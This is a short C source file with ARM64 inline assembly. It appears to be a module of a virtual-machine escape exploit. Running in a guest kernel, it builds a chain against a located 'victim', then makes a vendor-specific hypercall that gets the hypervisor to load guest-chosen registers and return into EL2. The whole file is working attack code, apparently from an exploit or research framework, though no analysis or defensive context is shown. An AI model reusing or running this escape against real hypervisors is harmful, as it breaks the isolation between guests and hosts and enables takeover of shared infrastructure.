/*
 * Has the VMM load registers of the guest's choice, with EL2h for a PSTATE: the return from the
 * hypercall is a return to EL2. Runs at EL1 in the guest's kernel.
 */
#include <attack/escape.h>

/*
 * In: x0 = IPA of a struct rw_hvc_context. Out: x0 = 0 where the chain came back, else the VMM's answer.
 * Keeps x19-x30, on the guest's own stack, which stays where it is.
 */
__attribute__((naked, used)) static void load_context(void) {
  __asm__("sub sp, sp, #96\n"
          "stp x19, x20, [sp, #0]\n"
          "stp x21, x22, [sp, #16]\n"
          "stp x23, x24, [sp, #32]\n"
          "stp x25, x26, [sp, #48]\n"
          "stp x27, x28, [sp, #64]\n"
          "stp x29, x30, [sp, #80]\n"
          "mov x1, x0\n"
          "movz x0, #0x0007\n" /* RW_HVC_CONTEXT_LOAD */
          "movk x0, #0xc600, lsl #16\n"
          "hvc #0\n"
          ".globl context_back\n"
          "context_back:\n"
          "ldp x19, x20, [sp, #0]\n"
          "ldp x21, x22, [sp, #16]\n"
          "ldp x23, x24, [sp, #32]\n"
          "ldp x25, x26, [sp, #48]\n"
          "ldp x27, x28, [sp, #64]\n"
          "ldp x29, x30, [sp, #80]\n"
          "add sp, sp, #96\n"
          "ret\n");
}

extern const uint8_t context_back[];
_Static_assert(RW_HVC_CONTEXT_LOAD == 0xc6000007, "load_context knows the number");

RW_MODULE_ENTRY int module_entry(const struct rw_guest_api *api) {
  build_chain(find_victim(api), (uint64_t)context_back, 0);
  const uint64_t context = (uint64_t)&chain.first - RW_GUEST_LINEAR_VA;
  return (int)((int64_t(*)(uint64_t))load_context)(context);
}
